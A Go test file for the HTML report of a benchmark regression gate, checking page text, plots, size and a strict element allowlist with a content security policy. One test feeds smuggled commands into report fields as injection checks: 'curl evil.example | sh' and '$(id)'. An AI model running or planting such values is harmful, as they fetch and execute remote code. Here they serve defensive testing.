package report_test

import (
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"maps"
	"math"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/noslower/noslower/pkg/bench"
	"github.com/noslower/noslower/pkg/gate"
	"github.com/noslower/noslower/pkg/report"
)

// parsed reads a page as a browser does.
func parsed(t testing.TB, page string) *html.Node {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	return root
}

// elements returns all of a name, in the order of the page.
func elements(root *html.Node, name string) []*html.Node {
	var found []*html.Node
	for n := range root.Descendants() {
		if n.Type == html.ElementNode && n.Data == name {
			found = append(found, n)
		}
	}
	return found
}

func attribute(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// textOf is what an element shows, but for scripts and styles.
func textOf(n *html.Node) string {
	var b strings.Builder
	for d := range n.Descendants() {
		if d.Type == html.TextNode && d.Parent.Data != "script" && d.Parent.Data != "style" {
			b.WriteString(d.Data)
		}
	}
	return b.String()
}

// pageRows are the rows of the comparisons.
func pageRows(root *html.Node) []*html.Node {
	var rows []*html.Node
	for _, tr := range elements(root, "tr") {
		if attribute(tr, "data-slowdown") != "" {
			rows = append(rows, tr)
		}
	}
	return rows
}

// TestPageTellsEverything finds on the page all that the verdict has, without
// its script.
func TestPageTellsEverything(t *testing.T) {
	v := awkward(t)
	v.Accepted = "octocat, by the label perf-regression-accepted"
	root := parsed(t, written(t, "html", v, report.Options{Version: "1.2.3"}))
	text := strings.ReplaceAll(textOf(root), "\u00a0", " ")
	want := []string{
		"failed", "storage", "5 of 15 benchmarks regressed", "Besides: failing: head had 3 errors a run",
		"\n5 regressed\n", "\n1 warned\n", "\n4 inconclusive\n", "\n1 improved\n", "\n7 same\n", "\n4 not gating\n",
		"Accepted", "by octocat, by the label", "loosens what it is judged by", "fails at 1 %, not at 0.5 %",
		"its record has expired", "it ran the code of a fork", "instructions_per_op, latency_p99", "max_rss",
		"4f2a91c0d3e15b6a7788990011223344556677aa", "2026-11-27 09:00 UTC", "AMD EPYC 7763 64-Core Processor", "run 9123456789, 3 commits before",
		"noslower measure --suite storage --runs 5 --out base.json", "noslower compare --suite storage base.json head.json",
		"noslower 1.2.3", "here the instructions of an operation moved, write", "vector.tcc:442", "+800.25", "99.5 % explained",
		"slowdown: 1.0145, at least 1.0128 (99 % sure), at most 1.0155 (90 % sure)",
		"head: median 50731, from 50685.3 to 50771.6; 5 values of 5 launches: 50731, 50771.6, 50685.3, 50746.2, 50715.8",
	}
	for _, c := range v.Comparisons {
		want = append(want, report.Printable(c.Benchmark), c.Metric.Name, c.Why)
	}
	for _, s := range want {
		if !strings.Contains(text, s) {
			t.Errorf("the page does not say %q", s)
		}
	}
	if rows := pageRows(root); len(rows) != len(v.Comparisons) {
		t.Errorf("%d rows, want %d", len(rows), len(v.Comparisons))
	}
	for _, tr := range pageRows(root) {
		if len(elements(tr, "svg")) != 1 {
			t.Errorf("no plot: %s", textOf(tr))
		}
	}
}

// TestPageDiffers marks what differs of two machines, and nothing else.
func TestPageDiffers(t *testing.T) {
	v := awkward(t)
	v.Head.Host.Kernel = "6.12"
	var marked []string
	for _, tr := range elements(parsed(t, written(t, "html", v, report.Options{})), "tr") {
		if attribute(tr, "class") == "differs" {
			marked = append(marked, textOf(tr))
		}
	}
	if want := []string{"kernel differs6.11.0-1018-azure6.12"}; !slices.Equal(marked, want) {
		t.Errorf("marked %q, want %q", marked, want)
	}
}

// TestPageWithoutBaseline has limits alone, and says why.
func TestPageWithoutBaseline(t *testing.T) {
	v := awkward(t)
	v.Base, v.NoBaseline = nil, "none was kept yet"
	v.Comparisons = nil
	page := written(t, "html", v, report.Options{})
	for _, want := range []string{"No baseline: none was kept yet; nothing was compared.", "There is no comparison."} {
		if !strings.Contains(page, want) {
			t.Errorf("the page does not say %q", want)
		}
	}
	if root := parsed(t, page); len(elements(root, "script"))+len(elements(root, "form")) != 0 {
		t.Error("it has a script with nothing to do")
	}
}

// TestReproduceOnPage writes lines for a shell only of what cannot do harm
// there.
func TestReproduceOnPage(t *testing.T) {
	for name, change := range map[string]func(*gate.Verdict){
		"commit with a command": func(v *gate.Verdict) { v.Head.Commit = "abcdef0; curl evil.example | sh" },
		"commit with an option": func(v *gate.Verdict) { v.Base.Commit = "--force" },
		"suite with a command":  func(v *gate.Verdict) { v.Suite = "$(id)" },
		"runs not known":        func(v *gate.Verdict) { v.Base.Runs = 0 },
		"no base":               func(v *gate.Verdict) { v.Base = nil },
	} {
		v := awkward(t)
		change(&v)
		if len(elements(parsed(t, written(t, "html", v, report.Options{})), "pre")) != 0 {
			t.Errorf("%s: there are lines for a shell", name)
		}
	}
}

var drawn = regexp.MustCompile(`<path class="([a-z])" d="([^"]*)"/>`)

// paths are the lines of a verdict's first plot, by their class.
func paths(t *testing.T, v gate.Verdict) map[string]string {
	t.Helper()
	_, table, _ := strings.Cut(written(t, "html", v, report.Options{}), "<tbody")
	svg, _, _ := strings.Cut(table, "</svg>")
	found := map[string]string{}
	for _, m := range drawn.FindAllStringSubmatch(svg, -1) {
		found[m[1]] = m[2]
	}
	return found
}

// firstX is where a path begins.
func firstX(t *testing.T, path string) int {
	t.Helper()
	x, err := strconv.Atoi(regexp.MustCompile(`^M(\d+)`).FindStringSubmatch(path + "M0")[1])
	if err != nil {
		t.Fatal(err)
	}
	return x
}

// TestPlot draws a point for each launch, and the threshold where head fails.
func TestPlot(t *testing.T) {
	for _, tt := range []struct {
		name         string
		metric       bench.Metric
		base, head   float64
		tintedTo     string // the edge that is tinted: what is worse lies there
		baseAt, tick string
	}{
		{"worse is more", instructions, 1000, 1100, "H600", "left of", "t"},
		{"worse is less", throughput, 1000, 800, "H0", "right of", "t"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p := paths(t, decide(t, []sample{{"a", tt.metric, five(tt.base)}}, []sample{{"a", tt.metric, five(tt.head)}}, nil))
			for _, side := range []string{"b", "h"} {
				if n := strings.Count(p[side], "h0"); n != 5 {
					t.Errorf("%d dots of side %s, want 5: %s", n, side, p[side])
				}
			}
			if !strings.Contains(p["z"], tt.tintedTo) {
				t.Errorf("tinted %s, want to %s", p["z"], tt.tintedTo)
			}
			threshold, base, head := firstX(t, p["t"]), firstX(t, p["b"]), firstX(t, p["h"])
			if between := (base < threshold) == (threshold < head); !between {
				t.Errorf("the threshold is at %d, want it between base at %d and head at %d", threshold, base, head)
			}
		})
	}
}

// TestPlotScale is worked out by hand: from 100 to 110 are 584 units between two
// margins of 8, and a threshold of 5 % lies in their middle.
func TestPlotScale(t *testing.T) {
	b, h := sidesOf(set(t, sample{"a", timePerOp, launches(100)}), set(t, sample{"a", timePerOp, launches(110)}))
	limit := 108.0
	v := gate.Verdict{Base: &b, Head: h, Comparisons: []gate.Comparison{{
		Benchmark: "a", Metric: timePerOp, Gating: true, Threshold: 0.05, Limit: &limit, Change: 0.08,
		Base: &gate.Summary{Median: 100, Min: 100, Max: 100}, Head: gate.Summary{Median: 110, Min: 110, Max: 110},
		Slowdown: &gate.Slowdown{Estimate: 1.08, Low: 1.05, High: 1.1},
	}}}
	want := map[string]string{
		"b": "M8 10h0", "h": "M592 48h0", "t": "M300 0V60", "l": "M475 0V60", "z": "M300 0H600V60H300Z",
		"i": "M8 2v18M592 40v18M300 30H592M300 27v6M475 27v6M592 27v6",
	}
	if got := paths(t, v); !maps.Equal(got, want) {
		t.Errorf("drawn %q, want %q", got, want)
	}
	// Of a benchmark that base has under another name only the summary is known.
	b.Set = nil
	v.Comparisons[0].Base.Max = 104
	if got, want := paths(t, v)["b"], "M8 11H242"; got != want {
		t.Errorf("a range drawn as %q, want %q", got, want)
	}
}

// TestPlotOfAnything has a drawing within its frame, or none, whatever the
// numbers.
func TestPlotOfAnything(t *testing.T) {
	odd := []float64{0, 1, -1, math.MaxFloat64, -math.MaxFloat64, math.SmallestNonzeroFloat64, math.Inf(1), math.Inf(-1), math.NaN()}
	number := regexp.MustCompile(`\d+`)
	for _, a := range odd {
		for _, b := range odd {
			v := hostileVerdict("x")
			for i := range v.Comparisons {
				c := &v.Comparisons[i]
				c.Metric.Better = bench.Better(i%3 - 1)
				c.Base.Median, c.Head.Median, c.Head.Max, c.Change, c.Threshold, c.Limit = a, b, b, a, b, &a
				c.Slowdown = &gate.Slowdown{Estimate: a, Low: b, High: a}
			}
			page := written(t, "html", v, report.Options{})
			for _, m := range drawn.FindAllStringSubmatch(page, -1) {
				if strings.ContainsAny(m[2], "-NIe") {
					t.Fatalf("%g and %g: a path %q", a, b, m[2])
				}
				for _, n := range number.FindAllString(m[2], -1) {
					if v, err := strconv.Atoi(n); err != nil || v > 600 {
						t.Fatalf("%g and %g: a path %q leaves its frame", a, b, m[2])
					}
				}
			}
		}
	}
}

// TestPageSize holds a comparison to so many bytes: ten thousand of them are
// one page.
func TestPageSize(t *testing.T) {
	const most = 1600
	small, large := written(t, "html", many(t, 10, 0), report.Options{}), written(t, "html", many(t, 60, 0), report.Options{})
	if each := (len(large) - len(small)) / 100; each > most {
		t.Errorf("a comparison takes %d bytes, want at most %d", each, most)
	}
	// Values without number do not make a plot without bound.
	values := make([][]float64, 0, 5000)
	for i := range 5000 {
		values = append(values, []float64{1000 + float64(i*7919%1000)})
	}
	page := written(t, "html", decide(t, []sample{{"a", timePerOp, values}}, []sample{{"a", timePerOp, values}}, nil), report.Options{})
	if grown := len(page) - len(small); grown > 60_000 {
		t.Errorf("5000 launches a side take %d bytes", grown)
	}
	if !strings.Contains(page, "and 4900 more") {
		t.Error("it is not said that values are left out")
	}
}

var (
	pageElements = strings.Fields("html head meta title link style body a header p strong span h1 nav ul li b main form label input fieldset legend button svg path " +
		"table caption thead tbody tr th td details summary div section h2 pre code footer script")
	pageAttributes = strings.Fields("lang charset http-equiv content name rel href class id role aria-label aria-labelledby hidden type autocomplete spellcheck value checked aria-hidden viewbox viewBox d " +
		"preserveaspectratio preserveAspectRatio scope data-sort aria-sort data-slowdown tabindex")
	href = regexp.MustCompile(`^(#c\d+|#comparisons|data:,)$`)
)

// checkPage reads a page by a parser of its own and finds no element, attribute
// or address but ours, one script and one style that are those of the policy,
// and a row for each comparison.
func checkPage(t testing.TB, page string, comparisons int) {
	t.Helper()
	root := parsed(t, page)
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			t.Errorf("a comment: %q", n.Data)
		}
		if n.Type != html.ElementNode {
			continue
		}
		if !slices.Contains(pageElements, n.Data) {
			t.Errorf("an element that is not ours: %s", n.Data)
		}
		for _, a := range n.Attr {
			if !slices.Contains(pageAttributes, a.Key) {
				t.Errorf("an attribute that is not ours: %s %s=%q", n.Data, a.Key, a.Val)
			}
			if a.Key == "href" && !href.MatchString(a.Val) {
				t.Errorf("an address that is not ours: %q", a.Val)
			}
		}
	}
	var policy string
	for _, meta := range elements(root, "meta") {
		switch attribute(meta, "http-equiv") {
		case "Content-Security-Policy":
			policy = attribute(meta, "content")
		case "":
		default:
			t.Errorf("a meta element that is not ours: %v", meta.Attr)
		}
	}
	if !strings.HasPrefix(policy, "default-src 'none'; ") || strings.Contains(policy, "unsafe") {
		t.Errorf("policy %q", policy)
	}
	for kind, most := range map[string]int{"script": min(comparisons, 1), "style": 1} {
		found := elements(root, kind)
		if len(found) != most {
			t.Fatalf("%d elements %s, want %d", len(found), kind, most)
		}
		for _, n := range found {
			sum := sha256.Sum256([]byte(n.FirstChild.Data))
			if want := fmt.Sprintf("%s-src 'sha256-%s'", kind, base64.StdEncoding.EncodeToString(sum[:])); !strings.Contains(policy, want) {
				t.Errorf("policy %q, want %q in it", policy, want)
			}
		}
	}
	if rows := pageRows(root); len(rows) != comparisons {
		t.Errorf("%d rows, want %d", len(rows), comparisons)
	}
	for _, tr := range pageRows(root) {
		cells := len(elements(tr, "td")) + len(elements(tr, "th"))
		if cells != 9 {
			t.Errorf("a row of %d cells, want 9: %q", cells, textOf(tr))
		}
	}
	if strings.ContainsFunc(strings.ReplaceAll(textOf(root), "\u00a0", " "), unseen) {
		t.Errorf("the page has characters that are not seen")
	}
}
